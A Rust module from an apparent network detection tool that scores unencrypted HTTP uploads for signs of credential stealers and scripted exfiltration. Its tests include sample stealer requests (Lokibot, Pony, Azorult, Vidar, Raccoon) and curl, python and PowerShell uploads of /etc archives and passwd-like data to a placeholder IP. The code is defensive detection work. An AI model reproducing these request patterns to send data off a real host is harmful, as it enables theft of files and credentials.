//! Uploads over HTTP in clear that look like those of a stealer or a script: recognised by their
//! company of circumstances, kind of upload by kind of upload.

use crate::features::Sample;
use crate::flow::Side;
use crate::flow::content::file::Body;
use crate::flow::content::http::{Agent, Content};
use crate::flow::content::web::Shape;

use super::super::super::Technique;
use super::super::Found;
use super::super::pieces::Pieces;

/// Sum of weights at which an upload is reported. Measured on the labelled captures, ordinary
/// uploads of applications reach 0.45.
const NEEDED: f64 = 0.6;
/// Content-Length beyond which a body is more than a form's fields, and more than any form's.
const FORM_BYTES: u64 = 2_000;
const LARGE_BYTES: u64 = 16_000;
/// Payload sent below which a session is no upload, and its ratio to what was received.
const UPLOAD_MIN_BYTES: u64 = 1_000;
const UPLOAD_RATIO: u64 = 4;

pub(super) fn http_drop(sample: &Sample<'_>) -> Option<Found> {
    let http =
        sample.session.first_payloads.http.as_deref().filter(|_| sample.sender == Side::Client)?;
    let told = http.shapes.iter().filter(|shape| is_telling(shape));
    let pieces = told.map(|shape| pieces(sample, shape));
    let most = pieces.max_by(|a, b| a.weight().total_cmp(&b.weight()))?;
    most.found(NEEDED, Technique::ClearUpload, "an upload over unencrypted HTTP")
}

/// What applications' own uploads to their makers do not have. Without one of these all else is
/// what any telemetry looks like.
fn is_telling(shape: &Shape) -> bool {
    shape.bare_host
        || shape.binary_encoding
        || matches!(shape.body, Some(Body::Archive | Body::Report))
        || (shape.whole && shape.agent == Agent::AncientBrowser && shape.content == Content::Binary)
}

fn pieces(sample: &Sample<'_>, shape: &Shape) -> Pieces {
    let mut pieces = Pieces::default();
    pieces.add(shape.bare_host, 0.3, "to a host without a name");
    add_sender(&mut pieces, shape);
    add_content(&mut pieces, shape);
    pieces.add(shape.script, 0.15, "to a script");
    pieces.add(shape.put, 0.1, "with the method PUT");
    pieces.add(shape.length_max >= FORM_BYTES, 0.1, "more than a form has");
    pieces.add(shape.length_max >= LARGE_BYTES, 0.1, "of many kilobytes");
    let (sent, received) = (sample.sent.payload_bytes(), sample.received.payload_bytes());
    let uploads = sent >= UPLOAD_MIN_BYTES && sent >= received.saturating_mul(UPLOAD_RATIO);
    pieces.add(uploads, 0.1, "sends far more than it receives");
    pieces.add(
        sample.session.asked_own_address,
        0.3,
        "from a host that queried its own public address",
    );
    pieces
}

/// Who sends it. Of headers that were cut nothing is said.
fn add_sender(pieces: &mut Pieces, shape: &Shape) {
    let (weight, words) = match shape.agent {
        Agent::None => (0.2, "by a program without a User-Agent"),
        Agent::AncientBrowser => (0.2, "by a program that claims to be a very old browser"),
        Agent::Program => (0.15, "by a program"),
        Agent::Browser => (0.0, "by a browser"),
    };
    pieces.add(shape.whole && weight > 0.0, weight, words);
    pieces.add(shape.whole && shape.old_version, 0.1, "in HTTP/1.0");
    // Few fake all of a browser, and people do upload archives to the pages of devices.
    let browser = if shape.agent == Agent::Browser { -0.5 } else { -0.3 };
    pieces.add(shape.browser_headers, browser, "with a browser's headers");
}

/// What it holds, by what is said of it and by its first bytes.
fn add_content(pieces: &mut Pieces, shape: &Shape) {
    let small = shape.length_max < LARGE_BYTES;
    match shape.content {
        Content::Binary => pieces.add(true, 0.15, "of binary data"),
        Content::Multipart => pieces.add(true, 0.1, "of files"),
        Content::Form if shape.body.is_none_or(|body| body == Body::Fields) => {
            pieces.add(small, -0.1, "of a form's size and type");
        }
        // What curl says of any file it is asked to post.
        Content::Form => pieces.add(true, 0.15, "of a form without fields"),
        Content::Text => pieces.add(true, -0.2, "of plain text"),
        Content::Structured => pieces.add(true, -0.3, "in a protocol's own format"),
        Content::None | Content::Other => {}
    }
    pieces.add(shape.binary_encoding, 0.3, "in a non-standard encoding");
    match shape.body {
        Some(Body::Archive) => pieces.add(true, 0.3, "with an archive"),
        Some(Body::Report) => pieces.add(true, 0.45, "with words of a credential report"),
        Some(Body::Encrypted) => pieces.add(true, 0.15, "with encrypted bytes"),
        Some(Body::Image) => pieces.add(true, 0.1, "with an image"),
        Some(Body::Fields | Body::Text | Body::Other) | None => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::flow::session::example::{learn, say, session};
    use crate::flow::{Session, SessionKey};

    /// A session with one request of these header lines, a body, and an answer of so many bytes.
    fn posted(lines: &[&str], length: u32, body: &[u8], answer: u32) -> Session {
        let mut session =
            session(SessionKey { protocol: 6, server_port: 80, ..SessionKey::default() });
        let head = format!("{}\r\nContent-Length: {length}\r\n\r\n", lines.join("\r\n"));
        say(&mut session, Side::Client, head.as_bytes());
        learn(&mut session, Side::Client, body, length.max(1));
        learn(&mut session, Side::Server, b"HTTP/1.1 200 OK\r\n\r\n", answer);
        session
    }

    #[track_caller]
    fn check(what: &str, session: &Session, expected: bool) {
        let found = http_drop(&Sample::new(session, Side::Client, 0));
        assert_eq!(found.is_some(), expected, "{what}: {found:?}");
    }

    const ZIP: &[u8] =
        b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.zip\"\r\n\r\n\
        PK\x03\x04\x14\x00\x08\x00";
    const REPORT: &[u8] =
        b"Computer Name: X\r\nOSFullName: Y\r\nCPU: Z\r\nHWID: 1\r\nPassword: b\r\n";
    const BROWSER: &str =
        "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0";

    fn random() -> Vec<u8> {
        let mut state = 9_u32;
        std::iter::repeat_with(|| {
            state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            (state >> 24) as u8
        })
        .take(400)
        .collect()
    }

    #[test]
    fn stealers_and_scripts_are_found() {
        let lokibot = [
            "POST /five/fre.php HTTP/1.0",
            "User-Agent: Mozilla/4.08 (Charon; Inferno)",
            "Host: panel.example",
            "Accept: */*",
            "Content-Type: application/octet-stream",
            "Content-Encoding: binary",
            "Content-Key: B1A2C3D4",
        ];
        check("Lokibot", &posted(&lokibot, 190, &random(), 23), true);
        let pony = [
            "POST /gate.php HTTP/1.0",
            "Host: panel.example",
            "Accept: */*",
            "Content-Type: application/octet-stream",
            "Content-Encoding: binary",
            "User-Agent: Mozilla/4.0 (compatible; MSIE 5.0; Windows 98)",
        ];
        check("Pony", &posted(&pony, 380, &random(), 120), true);
        let azorult = [
            "POST /index.php HTTP/1.1",
            "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0b; Windows NT 5.1)",
            "Host: 198.51.100.9",
        ];
        check("Azorult", &posted(&azorult, 40_000, &random(), 900), true);
        let vidar = [
            "POST / HTTP/1.1",
            "Content-Type: multipart/form-data; boundary=b",
            "User-Agent: Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/107.0 \
             Safari/537.36",
            "Host: 198.51.100.9",
        ];
        check("Vidar, Arkei", &posted(&vidar, 120_000, ZIP, 200), true);
        let raccoon = [
            "POST / HTTP/1.1",
            "Content-Type: multipart/form-data; boundary=b",
            "User-Agent: TakeMyPainBack",
            "Host: 198.51.100.9",
        ];
        let text = b"--b\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nSystem";
        check("Raccoon", &posted(&raccoon, 5_000, text, 200), true);
        let report =
            ["POST /in/post.php HTTP/1.1", "Host: panel.example", "Content-Type: text/plain"];
        check("a report", &posted(&report, 5_000, REPORT, 200), true);
    }

    #[test]
    fn tools_that_upload_to_a_bare_host_are_found() {
        let curl = "User-Agent: curl/8.5.0";
        let host = "Host: 198.51.100.9:8000";
        let put = ["PUT /etc.tgz HTTP/1.1", host, curl, "Accept: */*"];
        check("curl -T", &posted(&put, 20_000, b"\x1f\x8b\x08", 90), true);
        let form =
            ["POST / HTTP/1.1", host, curl, "Content-Type: application/x-www-form-urlencoded"];
        check("curl -d @", &posted(&form, 50_000, b"root:x:0:0", 90), true);
        check("curl -d @, little", &posted(&form, 900, b"root:x:0:0", 90), true);
        let python = [
            "POST /upload HTTP/1.1",
            host,
            "User-Agent: python-requests/2.32.3",
            "Content-Type: multipart/form-data; boundary=b",
        ];
        check("python", &posted(&python, 9_000, b"--b\r\n\r\nx", 90), true);
        let powershell = [
            "POST / HTTP/1.1",
            "User-Agent: Mozilla/5.0 (Windows NT; en-US) WindowsPowerShell/5.1.19041.1",
            "Content-Type: application/octet-stream",
            host,
        ];
        check("PowerShell", &posted(&powershell, 30_000, b"\x00\x01", 90), true);
    }

    #[test]
    fn ordinary_uploads_are_quiet() {
        let host = "Host: 192.0.2.80";
        let application = [
            "POST /api/upload.php HTTP/1.1",
            "Content-Type: application/octet-stream",
            "Host: stats.site.example",
            "User-Agent: okhttp/3.10.0",
        ];
        check("telemetry", &posted(&application, 265, &random(), 300), false);
        let proxy = [
            "POST /api/proxy?url=http%3A%2F%2Fsite.example HTTP/1.1",
            "Content-Type: application/x-www-form-urlencoded",
            "User-Agent: Mozilla/5.0",
            host,
        ];
        check("a form to an address", &posted(&proxy, 445, b"a=b", 4_000), false);
        let call = ["POST /api HTTP/1.1", host, "User-Agent: curl/8", proxy[1]];
        check("a call to an address", &posted(&call, 900, b"job=7&state=done", 200), false);
        let browser = [
            "POST /upload HTTP/1.1",
            "Host: photos.example",
            BROWSER,
            "Accept-Language: en",
            "Cookie: a=b",
            "Content-Type: multipart/form-data; boundary=b",
        ];
        check("a browser", &posted(&browser, 5_000_000, ZIP, 500), false);
        let device = ["POST /cgi-bin/luci HTTP/1.1", host, BROWSER, "Referer: http://192.0.2.80/"];
        check("a router's page", &posted(&device, 300, b"user=a&password=b", 5_000), false);
        let firmware =
            [device[0], host, BROWSER, device[3], "Content-Type: multipart/form-data; boundary=b"];
        check("a router's firmware", &posted(&firmware, 9_000_000, ZIP, 5_000), false);
        let soap = [
            "POST /control HTTP/1.1",
            host,
            "Content-Type: text/xml; charset=\"utf-8\"",
            "SOAPAction: \"urn:x#Browse\"",
        ];
        check("UPnP", &posted(&soap, 400, b"<?xml", 900), false);
        let ipp = [
            "POST /ipp/print HTTP/1.1",
            host,
            "Content-Type: application/ipp",
            "User-Agent: CUPS/2.4",
        ];
        check("IPP", &posted(&ipp, 2_000_000, b"\x02\x00", 900), false);
        let json =
            ["POST /_bulk HTTP/1.1", host, "Content-Type: application/x-ndjson", "User-Agent: x"];
        check("a database", &posted(&json, 90_000, b"{}", 900), false);
        let webdav = ["PUT /dav/a.txt HTTP/1.1", "Host: dav.site.example", "User-Agent: gvfs/1.50"];
        check("WebDAV", &posted(&webdav, 90_000, b"text", 900), false);
        let beacon = ["POST /weather HTTP/1.1", host, "User-Agent: python-requests/2.32.3"];
        check("a few bytes", &posted(&beacon, 184, b"x", 900), false);
    }
}
